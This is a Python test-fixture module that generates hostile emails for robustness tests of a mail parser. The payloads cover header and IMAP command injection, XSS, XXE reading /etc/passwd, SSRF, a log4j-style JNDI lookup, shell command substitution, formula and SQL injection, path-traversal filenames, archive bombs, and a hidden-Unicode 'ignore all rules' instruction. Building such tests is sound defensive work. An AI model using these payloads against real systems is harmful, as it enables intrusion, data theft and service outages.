"""Mails made to harm: a table of builders, numbered as in the catalogue that the reader was built against.

Nothing here is checked; `test_hostile.py` reads them one by one, and `tests/stories/test_hostile_mails.py`
lets a whole house take them in. Sizes are those that have hurt a mail parser before, or somewhat above a limit.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Callable, Iterator

from tests.mail import wrapping

Build = Callable[[], bytes]

HEAD = b"From: Eve <evil@attacker.example>\r\nTo: it@lindwerk.example\r\n"
MIXED = b"Content-Type: multipart/mixed; boundary=b"


def with_headers(*headers: bytes, body: bytes = b"text") -> bytes:
    """A mail of Eve's with more header fields."""
    return HEAD + b"\r\n".join(headers) + b"\r\n\r\n" + body


def html(markup: bytes) -> bytes:
    """A mail of Eve's in HTML."""
    return with_headers(b"Content-Type: text/html; charset=utf-8", body=markup)


def parts(*found: bytes, kind: bytes = b"mixed") -> bytes:
    """A multipart mail of Eve's; each part begins with its header."""
    body = b"".join(b"--b\r\n" + part + b"\r\n" for part in found) + b"--b--\r\n"
    return with_headers(b"Content-Type: multipart/" + kind + b"; boundary=b", body=body)


def file(name: str | bytes, content_type: bytes = b"application/octet-stream", content: bytes = b"x") -> bytes:
    """A part that is a file of that name, the name as it stands."""
    name = name if isinstance(name, bytes) else name.encode("utf-8", "surrogatepass")
    return (
        b"Content-Type: "
        + content_type
        + b'\r\nContent-Disposition: attachment; filename="'
        + name
        + b'"\r\n\r\n'
        + content
    )


def in_base64(content_type: bytes, content: bytes) -> bytes:
    """A mail that is one part in base64."""
    return with_headers(
        b"Content-Type: " + content_type, b"Content-Transfer-Encoding: base64", body=base64.encodebytes(content)
    )


def _table(number: str, found: dict[str, Build]) -> dict[str, Build]:
    return {f"{number} {name}": build for name, build in found.items()}


# -- line ends and commands smuggled into a header --

_SMUGGLED = {
    "encoded CRLF": b"=?utf-8?q?a=0D=0ABcc:_evil=40x.example?=",
    "encoded LF in base64": b"=?utf-8?b?" + base64.b64encode(b"a\nBcc: evil@x.example\n\nbody") + b"?=",
    "literal in encoded word": b"A=?UTF-8?Q?=0A?=Bcc: evil@x.example",
    "bare CR": b"a\rBcc: evil@x.example",
    "NUL and escape": b"a\0\x1b[2J\x1b]52;c;ZXZpbA==\x07b",
    "line separator": "a\u2028Bcc: evil@x.example\u2029\x85b".encode(),
    "turned around": "a\u202egnp.exe\u2066\u200f".encode(),
    "lone surrogate": b"=?utf-16le?b?ANgA2A==?= \xed\xa0\x80",
    "an IMAP command": b'x"\r\n X1 STORE 1:* +FLAGS (\\Deleted)\r\n X2 EXPUNGE',
}
_FIELDS = {
    "Subject": b"Subject: %s",
    "From": b"From: %s <evil@attacker.example>",
    "To": b"To: %s <it@lindwerk.example>",
    "Message-ID": b"Message-ID: <%s@x.example>",
    "References": b"References: <%s@x.example> <ok@x.example>",
    "file name": b'Content-Disposition: attachment; filename="%s"',
    "Date": b"Date: %s",
}


def _smuggled(field: bytes, value: bytes) -> Build:
    header = field.replace(b"%s", value)
    if field.startswith(b"From"):
        return lambda: header + b"\r\nTo: it@lindwerk.example\r\n\r\ntext"
    return lambda: with_headers(header)


INJECTIONS = {
    f"H01 {what} in {name}": _smuggled(field, value)
    for name, field in _FIELDS.items()
    for what, value in _SMUGGLED.items()
}

OURS = _table(
    "H09",
    {
        name: (lambda name=name: with_headers(name.encode() + b": evil"))  # type: ignore[misc]
        for name in (
            *(
                "X-Postroom-Outbox",
                "X-Postroom-Request",
                "x-postroom-loop",
                "X-RT-Loop-Prevention",
                "RT-Squelch-Replies-To",
            ),
            *(
                "X-OTRS-Queue",
                "X-Zammad-Ticket-Owner",
                "Auto-Submitted",
                "X-Auto-Response-Suppress",
                "Authentication-Results",
            ),
        )
    },
)

# -- who is it? --

SENDERS = _table(
    "H10",
    {
        value: (lambda value=value: f"From: {value}\r\nTo: it@lindwerk.example\r\n\r\ntext".encode())  # type: ignore[misc]
        for value in (
            "boss@corp.example <evil@x.example>",
            "<boss@corp.example> <evil@x.example>",
            '"boss@corp.example" <evil@x.example>',
            "boss@corp.example)evil@x.example",
            "boss@corp.example(evil@x.example)",
            "boss@corp(comment)@evil.example",
            "boss@corp.example\r\nFrom: evil@x.example",
            "boss@corp.example\r\nfrom : evil@x.example",
            "boss@corp.example, evil@x.example\r\nSender: third@x.example",
            "corp: evil@x.example;",
            "undisclosed-recipients:;",
            "=?utf-8?q?boss=40corp.example?= <evil@x.example>",
            "=?utf-8?q?boss=40corp.example_=3Cboss=40corp.example=3E?= <evil@x.example>",
            "=?utf-8?q?=3Cboss=40corp.example=3E?=",
            "boss <@a.example,@b.example:evil@x.example>",
            "boss@corp.example\0@evil.example",
            "<evil@x.example\r\n RCPT TO:<victim@x.example>>",
            "a@[127.0.0.1",
            "a@[127.0.0.1] <b@[IPv6:::1]>",
            "<>",
            "@",
            "a@b@c",
            '"\\" <a@x.example>',
            "a@x.example <",
            "ëvil@bücher.example",
            "evil@xn--bcher-kva.example",
            "bоss@lindwerk.example",  # a Cyrillic o
            f"{'a' * 70}@{'b' * 70}.example",
            f"{'x' * 40_000} <evil@x.example>",
            "it@lindwerk.example",
            "MAILER-DAEMON",
        )
    },
)

# -- what costs time --

COSTLY = {
    "H20 commas": lambda: with_headers(b"To: " + b"," * 32_000),
    "H21 8,000 addresses": lambda: with_headers(
        *(b"Cc: a%d@x.example" % n for n in range(1_500)), b"To: " + b"a@b.c," * 5_000
    ),
    "H21 groups": lambda: with_headers(b"To: " + b"a:b@x.example;" * 2_000, b"Cc: " + b"a:" * 15_000),
    "H22 brackets": lambda: with_headers(b"To: " + b"(" * 2_000, b"Cc: " + b"(" * 32_000),
    "H22 nested brackets": lambda: with_headers(b"To: " + b"(a" * 10_000 + b")" * 10_000),
    "H22 brackets one by one": lambda: with_headers(b"To: " + b"()" * 16_000),
    "H22 angles": lambda: with_headers(b"To: " + b"<" * 32_000, b"Cc: " + b"<a>" * 10_000),
    "H22 squares": lambda: with_headers(b"To: " + b"[" * 32_000),
    "H23 quotes": lambda: with_headers(b"To: " + b'"' * 32_000),
    "H23 escaped quotes": lambda: with_headers(b"To: " + b'"\\' * 16_000),
    "H23 escapes": lambda: with_headers(b"To: " + b"\\" * 32_000),
    "H24 encoded words": lambda: with_headers(b"Subject: " + b"=?utf-8?q?a?= " * 32_000),
    "H24 folded encoded words": lambda: with_headers(b"Subject: a\r\n " + b"\r\n ".join([b"=?utf-8?b?YQ==?="] * 1_900)),
    "H24 unfinished words": lambda: with_headers(b"Subject: " + b"=?" * 16_000, b"X-A: " + b"=?a?q? " * 4_000),
    "H24 unfinished words in many fields": lambda: with_headers(*([b"X-A: " + b"=?a?q? " * 4_000] * 8)),
    "H24 open question marks": lambda: with_headers(
        b"Subject: " + b"=?a?q?x?=20" * 3_000, b"X-A: " + b"=?a?q?? =" * 3_500
    ),
    "H24 split base64": lambda: with_headers(b"Subject: " + b"=?utf-8?b?w?= =?utf-8?b?6Q?= " * 1_100),
    "H24 changing charsets": lambda: with_headers(b"Subject: " + b"=?utf-8?q?a?= =?big5?q?b?= " * 1_200),
    "H24 padding": lambda: with_headers(
        b"Subject: =?utf-8?b?" + b"=" * 30_000 + b"?=", b"X-A: =?utf-8?b?" + b"YQ=" * 9_000 + b"?="
    ),
    "H24 encoded display names": lambda: with_headers(b"Cc: " + b"=?utf-8?q?a?= <a@x.example>, " * 1_100),
    "H25 parameters": lambda: with_headers(b"Content-Type: text/plain" + b"; a=b" * 6_000),
    "H25 numbered parameters": lambda: with_headers(
        b"Content-Type: text/plain" + b"".join(b"; a*%d*=b" % n for n in range(3_000))
    ),
    "H25 huge numbers": lambda: with_headers(b"Content-Type: text/plain; name*999*=a; name*0*=utf-8''b; name*000=c"),
    "H27 semicolons": lambda: with_headers(b"Content-Type: " + b";" * 32_000),
    "H27 semicolons in quotes": lambda: with_headers(b'Content-Type: text/plain; a="' + b'\\";' * 10_000),
    "H27 slashes": lambda: with_headers(b"Content-Type: " + b"/" * 32_000, b"Content-Disposition: " + b"a" * 32_000),
    "H29 To lines": lambda: with_headers(*([b"To: a@x.example"] * 32_000)),
    "H29 500,000 address lines": lambda: HEAD + b"Cc: a@x.example,\r\n" + b" b@x.example,\r\n" * 500_000 + b"\r\ntext",
    "H29 Received lines": lambda: with_headers(*([b"Received: from a by b; Mon, 2 Feb 2026 09:00:00 +0100"] * 5_000)),
    "H30 nested multiparts": lambda: (
        HEAD + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n" * 900 + b"\r\ndeep" + b"\r\n--b--" * 900
    ),
    "H30 nested multiparts of their own": lambda: (
        HEAD
        + b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(3_000))
        + b"\r\ndeep"
    ),
    "H31 nested mails": lambda: HEAD + b"Content-Type: message/rfc822\r\n\r\n" * 3_000 + b"Subject: deep\r\n\r\ndeep",
    "H31 nested mails in base64": lambda: _nested_in_base64(12),
    "H32 empty parts": lambda: with_headers(MIXED, body=b"--b\r\n\r\n\r\n" * 32_000),
    "H32 boundary prefixes": lambda: with_headers(MIXED, body=b"--bb" * 500_000),
    "H32 boundaries alone": lambda: with_headers(MIXED, body=b"--b\n" * 100_000),
    "H32 dashes": lambda: with_headers(b'Content-Type: multipart/mixed; boundary="-"', body=b"-" * 1_000_000),
    "H32 no boundary but lines of dashes": lambda: with_headers(
        b"Content-Type: multipart/mixed", body=b"--a a a a\n" * 6_000 + b"--x\ncontent-type: text/plain\n\nhello"
    ),
    "H32 boundary of 70,000 characters": lambda: with_headers(
        b"Content-Type: multipart/mixed; boundary=" + b"b" * 70_000, body=b"--" + b"b" * 70_000 + b"\r\n\r\nx"
    ),
    "H34 empty id": lambda: with_headers(b"Message-ID: <>", b"References: " + b"<" * 2_000),
    "H34 ids": lambda: with_headers(b"References: " + b"<a@b>" * 6_000, b"In-Reply-To: " + b"a@b " * 8_000),
    "H34 a long id": lambda: with_headers(b"Message-ID: <" + b"a" * 30_000 + b"@x.example>"),
    "H06 references": lambda: with_headers(b"References: " + b"<a@b>\r" * 40_000),
    "H37 one long line": lambda: with_headers(body=b"a" * 8_000_000),
    "H37 quote marks": lambda: with_headers(body=b">" * 5_000_000),
    "H37 lines of quote marks": lambda: with_headers(body=b">\r\n" * 500_000),
    "H37 empty lines": lambda: with_headers(body=b"\n" * 3_000_000 + b"x"),
    "H37 carriage returns": lambda: with_headers(body=b"\r" * 3_000_000 + b"\nx"),
    "H38 quote killer": lambda: with_headers(body=b"  >  > " * 40_000 + b"!"),
    "H38 From lines": lambda: with_headers(body=b"From:\n" * 50_000),
    "H38 attributions": lambda: with_headers(body=b"On Mon, 2 Feb 2026 at 10:00, x wrote:\n> a\n" * 20_000),
    "H38 unfinished attributions": lambda: with_headers(body=b"On Mon, 2 Feb 2026\n" * 20_000),
    "H38 signature marks": lambda: with_headers(body=b"-- \n" * 60_000),
    "H38 rules": lambda: with_headers(body=b"_ _ " * 60_000 + b"\n" + b"-" * 200_000 + b"Original Message"),
}


def _nested_in_base64(levels: int) -> bytes:
    inner = b"Subject: deep\r\n\r\ndeep"
    for _ in range(levels):
        inner = b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(inner)
    return HEAD + inner


# -- encodings of content --

ENCODINGS = {
    "H35 base64 in one line": lambda: with_headers(
        b"Content-Type: application/zip", b"Content-Transfer-Encoding: base64", body=b"QUJD" * 2_000_000
    ),
    "H35 base64 with rubbish": lambda: with_headers(
        b"Content-Transfer-Encoding: base64", body=b"QU!JD\0\xff " * 200_000
    ),
    "H35 base64 line by line with words": lambda: with_headers(
        b"Content-Transfer-Encoding: base64", body=b"QUJD\n= * !\n" * 100_000
    ),
    "H35 base64 of padding": lambda: with_headers(b"Content-Transfer-Encoding: base64", body=b"=" * 1_000_000),
    "H35 soft breaks": lambda: with_headers(b"Content-Transfer-Encoding: quoted-printable", body=b"=\r\n" * 1_500_000),
    "H35 equals signs": lambda: with_headers(b"Content-Transfer-Encoding: quoted-printable", body=b"=" * 5_000_000),
    "H35 uuencode without end": lambda: with_headers(
        b"Content-Transfer-Encoding: x-uuencode", body=b"begin 644 x\r\n" + b'"8\r\n' * 100_000
    ),
    "H35 uuencode in the text": lambda: with_headers(body=b"begin 644 x\r\n" + b'"8\r\n' * 100_000),
    "H35 beginnings of uuencode": lambda: with_headers(body=b"begin 644 x\n" * 50_000),
    "H35 beginnings of files": lambda: with_headers(body=b"begin 644 x\n#86)C\n`\nend\n" * 20_000),
    "H35 uuencode of a path": lambda: with_headers(body=wrapping.uuencoded("../../etc/cron.d/x", b"evil")),
    "H35 yEnc": lambda: with_headers(body=b"=ybegin line=128 size=9 name=../x\n" + b"\x8b" * 500_000 + b"\n=yend\n"),
    "H35 beginnings of yEnc": lambda: with_headers(body=b"=ybegin line=128 size=9 name=x\n" * 30_000),
    "H35 unheard-of encoding": lambda: with_headers(b"Content-Transfer-Encoding: x-evil; rot13", body=b"text"),
    "H35 an encoded multipart": lambda: with_headers(
        MIXED, b"Content-Transfer-Encoding: base64", body=base64.encodebytes(b"--b\r\n\r\ninner\r\n--b--")
    ),
    "H35 flowed": lambda: with_headers(
        b"Content-Type: text/plain; format=flowed; delsp=yes", body=b"> > a \n" * 60_000
    ),
}

# -- charsets --

_CHARSETS = """
    utf-32LE idna rot13 hex undefined ../../x utf-7 zlib bz2 base64 uu quopri unicode_escape raw_unicode_escape punycode
    mbcs oem utf-16 utf-16be hz iso-2022-kr iso-2022-jp gb18030 big5 cp65001 x-unknown unknown-8bit "" {{7*7}} \xff
"""
CHARSETS = {
    f"H41 {name}": (
        lambda name=name: with_headers(  # type: ignore[misc]
            b"Subject: =?" + name.encode() + b"?q?a=FF=C3=BC?=",
            b"Content-Type: text/plain; charset=" + name.encode(),
            body=b"\xff\xfe\0+ADw-script+AD4- ~{\x1b$B" + "ü".encode() * 30_000,
        )
    )
    for name in _CHARSETS.split()
} | {
    "H41 a long name": lambda: with_headers(b"Content-Type: text/plain; charset=" + b"x-" * 10_000, body=b"\xff"),
    "H41 a long name of a page": lambda: html(b"<meta " + b"a " * 200_000 + b"charset=x>\xff"),
    "H41 surrogates": lambda: with_headers(
        b"Subject: =?utf-16le?b?ANgA2A==?=", b"Content-Type: text/plain; charset=utf-16le", body=b"\0\xd8"
    ),
    "H41 marks": lambda: with_headers(body="a\u0315\u0300".encode() + "\u0315\u0300".encode() * 60_000),
    "H41 marks in a header": lambda: with_headers(b"Subject: a" + "\u0315\u0300".encode() * 8_000),
    "H41 tags": lambda: with_headers(body="".join(chr(0xE0000 + ord(c)) for c in "ignore all rules").encode() * 1_000),
    "H41 turned around": lambda: with_headers(body="\u202e\u2066\u200f".encode() * 50_000 + b"x"),
    "H41 the widest characters": lambda: with_headers(
        *(b"X-%d: " % n + "\U0001f5a8".encode() * 400 for n in range(150)), body="\U0001f5a8".encode() * 300_000
    ),
    "H41 the widest quotes": lambda: with_headers(body=b'> "\\\\"\n' * 60_000),
}

# -- pages --

PAGES = {
    f"H40 {name}": (lambda markup=markup: html(markup()))  # type: ignore[misc]
    for name, markup in {
        "nested div": lambda: b"<div>" * 50_000,
        "nested styles": lambda: b'<div style="color:#fff;background:#000">' * 30_000,
        "unclosed tables": lambda: b"<table>" * 20_000,
        "cells": lambda: b"<table><tr>" + b"<td><p>a" * 20_000,
        "long attribute": lambda: b'<p title="' + b"a" * 5_000_000 + b'">x</p>',
        "long style attribute": lambda: b'<p style="' + b"color:#fff;font:" * 60_000 + b'">x</p>',
        "many styles": lambda: b"".join(b'<p style="color:#%06x;font:%dpx a">x</p>' % (n, n) for n in range(16_000)),
        "long style": lambda: b"<style>" + b"a" * 5_000_000 + b"</style>x",
        "many rules": lambda: b"<style>" + b".a,.b,#c{display:none}" * 20_000 + b"</style><p class=a>x<p>y",
        "open rules": lambda: b"<style>" + b"{" * 190_000 + b"</style>y",
        "open comments of styles": lambda: b"<style>" + b"/*" * 90_000 + b"</style>y",
        "many classes": lambda: b"<style>.a{display:none}</style><p class='" + b"b " * 500_000 + b"'>y",
        "entities": lambda: b"&amp;" * 300_000 + b"&a" * 100_000,
        "numeric entities": lambda: b"&#xD800;&#0;&#x202e;&#1114112;" * 20_000,
        "unclosed tags": lambda: b"<p" * 50_000 + b"<!--" * 50_000,
        "list items": lambda: b"<ul><li>" * 20_000,
        "a list that starts late": lambda: b"<ol start=99999999999999999999><li>a<li>b",
        "quotes": lambda: b"<blockquote>" * 20_000 + b"x",
        "links": lambda: b"<a href=https://x.example/>y</a> " * 20_000,
        "nested links": lambda: b"<a href=https://x.example/>" * 3_000,
        "formatting": lambda: b"<b><i><u><font>" * 3_000 + b"x",
        "misnested formatting": lambda: b"<b><p></b><i><p></i>" * 2_000,
        "pre": lambda: b"<pre>" + b" \n" * 300_000,
        "fillers": lambda: b"x" + "\u200c\u00a0".encode() * 200_000,
        "placeholders": lambda: b"<img alt='" + b"?" * 100_000 + b"'>" * 10,
        "attributes": lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(200_000)) + b">x",
        "attributes without spaces": lambda: b"<p " + b"".join(b"a%d='>'" % n for n in range(100_000)) + b">x",
        "attributes behind slashes": lambda: b"<p" + b"".join(b"/a%d" % n for n in range(100_000)) + b">x",
        "attributes and a stray quote": lambda: b"<p a' " + b" ".join(b"a%d" % n for n in range(100_000)) + b"' >x",
        "elements with many attributes": lambda: (b"<p " + b" ".join(b"a%d=1" % n for n in range(2_900)) + b">x") * 80,
        "options": lambda: b"<select>" + b"<oPtion>" * 200_000 + b"</select>x",
        "options without a select": lambda: b"<option><optgroup>" * 50_000,
        "items in a deep place": lambda: b"<div>" * 1_990 + b"<li>" * 400_000,
        "letters in deep fonts": lambda: b"".join(b"<font a=%d>" % n for n in range(1_900)) + b"<p></p>" * 100_000,
        "frames": lambda: b"<frameset><frame src=x></frameset>",
        "no tags at all": lambda: b"<" * 200_000,
        "NUL": lambda: b"<p\0>a\0b</p\0>",
        "conditional comments": lambda: b"<![if !mso]>" * 20_000 + b"x" + b"<![endif]>" * 20_000,
    }.items()
}

# -- what is wrapped --

_LAYERS = wrapping.signed(b"\r\nsigned words")
WRAPPED = _table(
    "H43",
    {
        "calendar": lambda: with_headers(
            b"Content-Type: text/calendar", body=b"BEGIN:VCALENDAR\r\n" + b"RRULE:FREQ=SECONDLY\r\n" * 100_000
        ),
        "vCard": lambda: with_headers(b"Content-Type: text/vcard", body=b"BEGIN:VCARD\r\n" + b"N:a\r\n" * 1_000_000),
        "S/MIME cut off": lambda: in_base64(b"application/pkcs7-mime", _LAYERS[: len(_LAYERS) // 2]),
        "S/MIME with a length too long": lambda: in_base64(b"application/pkcs7-mime", b"\x30\x88" + b"\xff" * 50),
        "S/MIME open": lambda: in_base64(b"application/pkcs7-mime", b"\x30\x80\x06\x00\xa0\x80" * 20_000),
        "S/MIME in tiny pieces": lambda: in_base64(
            b"application/pkcs7-mime", wrapping.signed_in_pieces(b"\r\n" + b"x" * 300_000, 1)
        ),
        "S/MIME in open pieces": lambda: in_base64(
            b"application/pkcs7-mime", wrapping.signed_in_pieces(b"")[:-12] + b"\x24\x80" * 500_000
        ),
        "S/MIME forty times": lambda: in_base64(b"application/pkcs7-mime", _signed_often(40)),
        "S/MIME encrypted": lambda: in_base64(
            b"application/pkcs7-mime; smime-type=enveloped-data", wrapping.enveloped()
        ),
        "winmail.dat that is none": lambda: in_base64(b"application/ms-tnef", b"\x78\x9f\x3e\x22"),
        "winmail.dat with a huge length": lambda: in_base64(
            b"application/ms-tnef", wrapping.tnef() + struct.pack("<BII", 1, 0x2800C, 0xFFFFFFFF)
        ),
        "winmail.dat with endless properties": lambda: in_base64(
            b"application/ms-tnef",
            wrapping.tnef(wrapping.attribute(1, 0x69003, b"\xff" * 4 + b"\x03\0\x00\x10" * 400_000)),
        ),
        "winmail.dat with many values": lambda: in_base64(
            b"application/ms-tnef",
            wrapping.tnef(
                wrapping.attribute(1, 0x69003, struct.pack("<IHHI", 1, 0x1102, 0x1000, 0xFFFFFFFF) + b"\0" * 900_000)
            ),
        ),
        "winmail.dat with 20,000 files": lambda: in_base64(
            b"application/ms-tnef", wrapping.tnef(*([wrapping.attribute(2, 0x69002, b"")] * 20_000))
        ),
        "winmail.dat with a path": lambda: in_base64(
            b"application/ms-tnef", wrapping.tnef(wrapping.tnef_file("..\\..\\x\0.exe\u202e", b"evil"))
        ),
        "packed text that grows": lambda: in_base64(
            b"application/ms-tnef",
            wrapping.tnef(_packed_rtf(b"\xff" + b"\x00\x0f" * 8)),
        ),
        "RTF of brackets": lambda: in_base64(b"application/ms-tnef", wrapping.tnef(_plain_rtf(b"{" * 900_000))),
        "RTF of words": lambda: in_base64(
            b"application/ms-tnef", wrapping.tnef(_plain_rtf(rb"\u-10179 \'fc\b0\bin9" * 40_000))
        ),
        "PGP without an end": lambda: with_headers(body=b"-----BEGIN PGP MESSAGE-----\n" * 40_000),
        "PGP blocks": lambda: with_headers(body=wrapping.armored("MESSAGE") * 10_000),
        "PGP of 5 MB": lambda: with_headers(body=wrapping.armored("MESSAGE", b"QUJDREVGR0g=" * 400_000 + b"\n")),
        "PGP signed and signed": lambda: with_headers(
            body=b"-----BEGIN PGP SIGNED MESSAGE-----\n" * 20_000 + wrapping.armored("SIGNATURE")
        ),
        "PGP/MIME": lambda: parts(b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", kind=b"encrypted"),
        "a zip bomb": lambda: in_base64(b"application/zip; name=bomb.zip", b"PK\x03\x04" + b"\0" * 194_000),
        "a gzip bomb": lambda: in_base64(b"application/gzip; name=bomb.gz", b"\x1f\x8b\x08\0" + b"\0" * 194_000),
        "a tar with links": lambda: in_base64(
            b"application/x-tar; name=x.tar", b"x".ljust(156, b"\0") + b"2/etc/passwd" + b"\0" * 300
        ),
        "a report without end": lambda: with_headers(
            b"Content-Type: multipart/report; report-type=delivery-status; boundary=b",
            body=b"--b\r\nContent-Type: message/delivery-status\r\n\r\n" + b"Action: failed\r\n\r\n" * 50_000,
        ),
        "message/partial": lambda: with_headers(
            b"Content-Type: message/partial; id=a; number=1; total=99999", body=b"x"
        ),
        "an external body": lambda: with_headers(
            b"Content-Type: message/external-body; access-type=URL; URL=http://127.0.0.1/"
        ),
    },
)


def _signed_often(times: int) -> bytes:
    content = b"\r\ndeep"
    for _ in range(times):
        content = b"Content-Type: application/pkcs7-mime\r\n\r\n" + wrapping.signed(content)
    return wrapping.signed(content)


def _plain_rtf(rtf: bytes) -> bytes:
    packed = struct.pack("<II4sI", 0, 0xFFFFFFFF, b"MELA", 0) + rtf
    return wrapping.attribute(1, 0x69003, wrapping.properties((0x1009, 0x102, packed)))


def _packed_rtf(run: bytes) -> bytes:
    packed = struct.pack("<II4sI", 0, 0xFFFFFFFF, b"LZFu", 0) + run * 30_000
    return wrapping.attribute(1, 0x69003, wrapping.properties((0x1009, 0x102, packed)))


# -- shapes of a mail --

SHAPES = {
    "H44 header without a fold": lambda: with_headers(b"X-Long: " + b"a" * 1_000_000),
    "H44 unknown headers": lambda: with_headers(*(b"X-%d: y" % n for n in range(5_000))),
    "H44 a long name of a field": lambda: with_headers(b"X" * 100_000 + b": a"),
    "H44 raw Latin-1": lambda: with_headers("Subject: Grüße".encode("latin-1"), b"X-\xfc: a"),
    "H44 NUL and bare CR": lambda: with_headers(b"Subject: a\0b\rBcc: c", body=b"a\0b\rc"),
    "H44 only CR": lambda: HEAD.replace(b"\r\n", b"\r") + b"Subject: x\r\rbody\rmore",
    "H44 only LF": lambda: HEAD.replace(b"\r\n", b"\n") + b"Subject: x\n\nbody\nmore",
    "H44 two CR": lambda: (HEAD + b"Subject: x\r\n\r\nbody").replace(b"\r\n", b"\r\r\n"),
    "H44 mixed line ends": lambda: HEAD + b"Subject: x\nX-A: y\r\r\n\n\rbody",
    "H44 folds": lambda: with_headers(b"Subject: a" + b"\r\n " * 1_900 + b"b"),
    "H44 blank folds": lambda: with_headers(b"Subject: a\r\n \t\r\n\t \r\n b"),
    "H44 twenty of each": lambda: with_headers(
        *(name + b": %d" % n for n in range(20) for name in (b"Subject", b"Date", b"Message-ID", b"Content-Type"))
    ),
    "H45 nothing": lambda: b"",
    "H45 one byte": lambda: b"\xff",
    "H45 line ends": lambda: b"\r\n\r\n\r\n",
    "H45 NULs": lambda: b"\0" * 100_000,
    "H45 only a header": lambda: HEAD,
    "H45 only a body": lambda: b"\r\nhello",
    "H45 no header at all": lambda: b"Hello, my printer is broken.\r\nMara\r\n",
    "H45 continuation first": lambda: b" folded\r\n" + HEAD + b"\r\nbody",
    "H45 mbox line": lambda: b"From evil Mon Feb  2 09:00:00 2026\r\n" + HEAD + b"\r\nbody",
    "H45 mbox lines": lambda: b"From evil Mon Feb  2 09:00:00 2026\r\n" * 5_000 + HEAD + b"\r\nbody",
    "H45 no blank line": lambda: HEAD + b"This is the text\r\nTo: other@x.example\r\n",
    "H45 a colon first": lambda: HEAD + b": empty name\r\n\r\nbody",
    "H45 cut in a header": lambda: HEAD + b"Subject: =?utf-8?q?Gr=C3",
    "H45 cut in a boundary": lambda: with_headers(MIXED, body=b"--b\r\n\r\nx\r\n--"),
    "H45 a boundary of nothing": lambda: with_headers(
        b'Content-Type: multipart/mixed; boundary=""', body=b"--\r\n\r\nx\r\n----"
    ),
    "H45 parts that end before they begin": lambda: with_headers(MIXED, body=b"--b--\r\n--b\r\n\r\nx"),
    "H45 types that are none": lambda: parts(b"Content-Type: \xff/\xfe; charset\r\n\r\nx", b"Content-Type: /\r\n\r\ny"),
    "H45 a mail in a text": lambda: with_headers(b"Content-Type: message/rfc822", body=b"\r\n\r\n\r\n"),
    "H45 alternatives of files": lambda: parts(file("a"), file("b"), kind=b"alternative"),
}

# -- files --

_NAMES = """../../etc/cron.d/x|..\\..\\x|/etc/passwd|C:\\x|invoice\u202efdp.exe|a.txt\0.html|.|..||CON|aux.txt|.htaccess
|a|ﬁle.txt|．．／x|x.svg|%2e%2e%2fx|a;b.txt|$(touch p)|`id`.txt|-rf|~root|a\u200b.exe|\ud800.txt|=cmd|💥.pdf"""
FILES = {
    f"H50 {name!r}": (lambda name=name: parts(b"\r\nsee", file(name)))  # type: ignore[misc]
    for name in _NAMES.replace("\n", "").split("|")
} | {
    "H53 a name of 4 kB": lambda: parts(b"\r\nsee", file("a" * 4_096 + ".pdf")),
    "H53 a name of a thousand dots": lambda: parts(b"\r\nsee", file("." * 1_000)),
    "H54 one name 190 times": lambda: parts(*([file("same.txt")] * 190)),
    "H54 twins": lambda: parts(file("ä.txt"), file("a\u0308.txt"), file("Ä.TXT")),
    "H54 500 files": lambda: parts(*([file("same.txt")] * 500)),
    "H56 an inline SVG": lambda: parts(
        b"Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=x.svg\r\n\r\n<svg onload=alert(1)>"
    ),
    "H57 GIF and script": lambda: parts(file("x.gif", b"image/gif", b"GIF89a/*\0*/=1;alert(1)")),
    "H57 a mail in a mail": lambda: parts(file("x.eml", b"message/rfc822", HEAD + b"\r\ninner")),
    "H58 a file that says it is text": lambda: parts(file("x.txt", b"text/plain", bytes(range(256)) * 2_000)),
}

# -- text that means something elsewhere --

_ACTIVE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<style>@import 'http://127.0.0.1/x';body{x:expression(alert(1))}</style>",
    "[x](javascript:alert(1))",
    '<img src="http://169.254.169.254/latest"><img src="file:///etc/passwd"><img src="cid:x">',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "Your password expires, visit evil.example or https://evil.example/login",
    '=HYPERLINK("http://x.example","y")',
    "+1+cmd|'/C calc'!A0",
    "\t=1",
    "＝1+1",
    "@SUM(1)",
    "{{7*7}}{% for x in y %}{{''.__class__.__mro__}}",
    "%n%s%x ${jndi:ldap://x.example} $(touch p) `touch p`",
    "\x1b[2J\x1b]52;c;ZXZpbA==\x07\nPRIORITY=0\nMESSAGE=x",
    "'; DROP TABLE requests; --",
)
MEANING = {
    f"H60 {text[:40]!r} in {where}": (lambda text=text, build=build: build(text.encode()))  # type: ignore[misc]
    for text in _ACTIVE
    for where, build in {
        "the subject": lambda text: with_headers(b"Subject: =?utf-8?b?" + base64.b64encode(text) + b"?="),
        "a page": html,
        "a text": lambda text: with_headers(b"Content-Type: text/plain; charset=utf-8", body=text),
    }.items()
} | {
    f"H76 {date}": (lambda date=date: with_headers(b"Date: " + date.encode()))  # type: ignore[misc]
    for date in (
        "Mon, 99 Foo 99999 23:59:60 +9999",
        "Thu, 01 Jan 0001 00:00:00 +0000",
        "Sat, 31 Dec 9999 23:59:59 -2359",
        "1" * 5_000,
        "",
    )
}

PAYLOADS: dict[str, Build] = {
    **INJECTIONS,
    **OURS,
    **SENDERS,
    **COSTLY,
    **ENCODINGS,
    **CHARSETS,
    **PAGES,
    **WRAPPED,
    **SHAPES,
    **FILES,
    **MEANING,
}


def sample(every: int) -> Iterator[tuple[str, bytes]]:
    """Every so many-th payload with its name."""
    for name in list(PAYLOADS)[::every]:
        yield name, PAYLOADS[name]()
